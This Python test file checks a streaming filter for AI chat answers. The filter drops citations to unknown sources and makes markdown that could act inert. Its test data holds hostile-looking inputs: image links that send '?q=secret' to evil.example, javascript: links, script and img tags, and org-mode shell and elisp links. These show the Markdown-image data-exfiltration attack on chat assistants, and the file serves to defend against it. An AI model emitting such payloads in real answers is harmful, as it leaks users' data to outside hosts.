"""What is taken out of an answer on its way, what stays, and that it does not matter how the answer is cut into pieces."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from khoj_ls.chat.answer.streaming import AnswerFilter


def filtered(text, *, size=None, known=("https://known.example/a.png",)):
    answer = AnswerFilter(frozenset({1, 2, 3}), frozenset(known))
    pieces = [text] if size is None else [text[at : at + size] for at in range(0, len(text), size)]
    given_out = "".join([*map(answer.feed, pieces), answer.end()])
    assert given_out == answer.text
    return answer


@pytest.mark.parametrize(
    ("text", "shown", "removed"),
    [
        ("It is so [1].", "It is so [1].", []),
        ("It is so [7].", "It is so.", ["[7]"]),
        ("So [0] and [999].", "So and.", ["[0]", "[999]"]),
        ("Both [1, 7].", "Both [1].", ["[7]"]),
        ("Both [1][7].", "Both [1].", ["[7]"]),
        ("Both [7][1].", "Both[1].", ["[7]"]),
        ("All [1-3].", "All [1-3].", []),
        ("All [2-5].", "All [2, 3].", ["[4]", "[5]"]),
        ("All [5–900].", "All.", ["[5-900]"]),
        ("Note[^1] and[^9].", "Note[^1] and.", ["[^9]"]),
        ("Wide 【1】 and 【7】.", "Wide [1] and.", ["[7]"]),
        ("Wide 【2†source】.", "Wide [2].", []),
        ("Wide ［3］", "Wide [3]", []),
        ("Named [Source 1] and [source: 8].", "Named [1] and.", ["[8]"]),
        ("Doubled [[2]].", "Doubled [2].", []),
        ("In 2019 [2019] it was.", "In 2019 [2019] it was.", []),
        ("Take `a[7]` or ``b`[8]``.", "Take `a[7]` or ``b`[8]``.", []),
        ("```py\na[7]\n```\nso [7]", "```py\na[7]\n```\nso", ["[7]"]),
        ("~~~\na[7]\n```\n~~~\n", "~~~\na[7]\n```\n~~~\n", []),
        ("1. x\n   ```\n   a[7]\n   ```\n", "1. x\n   ```\n   a[7]\n   ```\n", []),
        ("[1](https://x.example) and [7](b.md)", "[1](https://x.example) and [7](b.md)", []),
        ("[7]: https://x.example", "[7]: https://x.example", []),
        ("- [ ] a\n- [X] b [1/3] [50%]", "- [ ] a\n- [X] b [1/3] [50%]", []),
        ("* TODO [#A] x <2024-01-01 Mon> [2024-01-01]", "* TODO [#A] x <2024-01-01 Mon> [2024-01-01]", []),
        (r"Escaped \[7\] stays", r"Escaped \[7\] stays", []),
        ("Open [1", "Open [1", []),
        ("", "", []),
        ("一つ[1]、二つ[7]。", "一つ[1]、二つ。", ["[7]"]),
    ],
)
def test_citations(text, shown, removed):
    answer = filtered(text)
    assert (answer.text, answer.removed) == (shown, removed)
    assert all("[" in answer.text[each.start : each.end] for each in answer.placed)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", "x (`https://evil.example/?q=secret`)"),
        ("![](https://evil.example/?q=secret)", "picture (`https://evil.example/?q=secret`)"),
        ("![x](https://known.example/a.png)", "[x](https://known.example/a.png)"),
        ("![x](https://known.example/a.png?q=secret)", "x (`https://known.example/a.png?q=secret`)"),
        ("![x](pictures/a.png)", "![x](pictures/a.png)"),
        ("![x](//evil.example/a.png)", "x (`//evil.example/a.png`)"),
        ("![x](\\\\evil\\a.png)", "x (`%5C%5Cevil%5Ca.png`)"),
        ("![x](data:image/svg+xml;base64,AA==)", "x (`data:image/svg+xml;base64,AA==`)"),
        ("![x][ref]\n\n[ref]: https://evil.example", "[x][ref]\n\n[ref]: https://evil.example"),
        ("[![x](https://evil.example/a.png)](https://b.example)", "[x (`https://evil.example/a.png`)](https://b.example)"),
        ("![a\nb](https://evil.example)", "[a\nb](https://evil.example)"),
        ("!![x](https://evil.example)", "!x (`https://evil.example`)"),
        ("!【7】[x](https://evil.example)", "! [x](https://evil.example)"),
        ("<img src='https://evil.example'>", "\\<img src='https://evil.example'>"),
        ("a<script>x</script>", "a\\<script>x\\</script>"),
        ("<【7】img src=x>", "< img src=x>"),
        ("a<br>b, H<sub>2</sub>O, 1 < 2 <- 3", "a<br>b, H<sub>2</sub>O, 1 < 2 <- 3"),
        ("<https://known.example/> and List<String>", "<https://known.example/> and List\\<String>"),
        ("[x](javascript:alert(1)) [y](JavaScript:1) [z](java&#115;cript:1)",
         "[x] (javascript:alert(1)) [y] (JavaScript:1) [z] (java&#115;cript:1)"),
        ("[x](command:run) [y](notes/a.md#x)", "[x] (command:run) [y](notes/a.md#x)"),
        ("[[elisp:(x)][y]] [[shell:rm]] [[note]]", "[ [elisp:(x)][y]] [ [shell:rm]] [[note]]"),
        ("```html\n<img src=\"a.png\">\n```\n", "```html\n<img src=\"a.png\">\n```\n"),
        ("`<img src=x>`", "`<img src=x>`"),
        # Readers of Markdown differ about what is code here, or see none.
        ("> ```\n![x](https://evil.example)", "> ```\nx (`https://evil.example`)"),
        ("- ```\n![x](https://evil.example)", "- ```\nx (`https://evil.example`)"),
        ("- a\n  ```\n![x](https://evil.example)\n", "- a\n  ```\nx (`https://evil.example`)\n"),
        ("a ` b\n`![x](https://evil.example)`", "a ` b\n`[x](https://evil.example)`"),
        ("| `a | ![x](https://evil.example)` |", "| `a | [x](https://evil.example)` |"),
        ("\\`![x](https://evil.example)`", "\\`x (`https://evil.example`)`"),
    ],
)  # fmt: skip
def test_what_could_act_is_made_inert(text, shown):
    assert filtered(text).text == shown


FRAGMENTS = (
    *("[1]", "[7]", " [7]", "[1, 7]", "【7】", "![", "![x](", "https://evil.example/a)", "](https://evil.example)"),
    *(
        "!",
        "[",
        "]",
        "(",
        ")",
        "<img src=https://evil.example>",
        "<img ",
        "<",
        ">",
        "<div>",
        "</div>",
        "<!--",
        "-->",
        "<script>",
    ),
    *("<br>", "`", "``", "```", "~~~", "\n", "\n\n", "\r\n", "    ", "  ", "   ", " ", "\t", "> ", "- ", "1. ", "10. ", "* "),
    *(
        "|",
        "|-|-|\n",
        "\\",
        "a",
        "b c",
        "x.",
        "[r]: https://evil.example\n",
        "![r]",
        "[r]",
        "---\n",
        "# ",
        "=",
        "javascript:x)",
    ),
    *("](javascript:x)", "&", "é", "火"),
)
ANSWERS = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)
READERS = tuple(
    MarkdownIt(name, {"html": True}).enable(["table", "strikethrough"] if name == "commonmark" else [])
    for name in ("commonmark", "js-default")
)


@given(ANSWERS | st.text(max_size=60), st.integers(1, 7))
@example("```\n![", 1)
@example("---\n```<div>", 1)
@settings(max_examples=600, deadline=None)
def test_the_cut_into_pieces_does_not_matter(text, size):
    whole, cut = filtered(text), filtered(text, size=size)
    assert (cut.text, cut.removed, cut.placed, cut.code) == (whole.text, whole.removed, whole.placed, whole.code)


@given(ANSWERS)
@settings(max_examples=1500, deadline=None)
def test_no_reader_of_markdown_loads_anything(text):
    shown = filtered(text).text
    for reader in READERS:
        for token in _tokens(reader.parse(shown)):
            assert token.type != "html_block", (text, shown)
            assert token.type != "image" or not token.attrs["src"].startswith(("http", "//")), (text, shown)
            assert token.type != "html_inline" or token.content == "<br>", (text, shown)
            assert not str(token.attrs.get("href", "")).startswith("javascript"), (text, shown)


def _tokens(tokens):
    for token in tokens:
        yield token
        yield from _tokens(token.children or ())


@pytest.mark.parametrize("size", [16, 320_000])
def test_a_long_answer_is_read_in_no_time_that_grows_with_its_square(size):
    answer = filtered("word [1] `code` " * 20_000, size=size)
    assert len(answer.text) == 320_000 and len(answer.placed) == 20_000


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("plain words go out", "plain words go out"),
        ("a blank may go with what follows ", "a blank may go with what follows"),
        ("a citation [1", "a citation"),
        ("```x``` begins no fence, so", "```x``` begins no fence, so"),
        ("- `code` in an item", "- `code` in an item"),
    ],
)
def test_what_is_known_is_given_out_at_once(written, shown):
    assert "".join(map(AnswerFilter(frozenset({1})).feed, written)) == shown
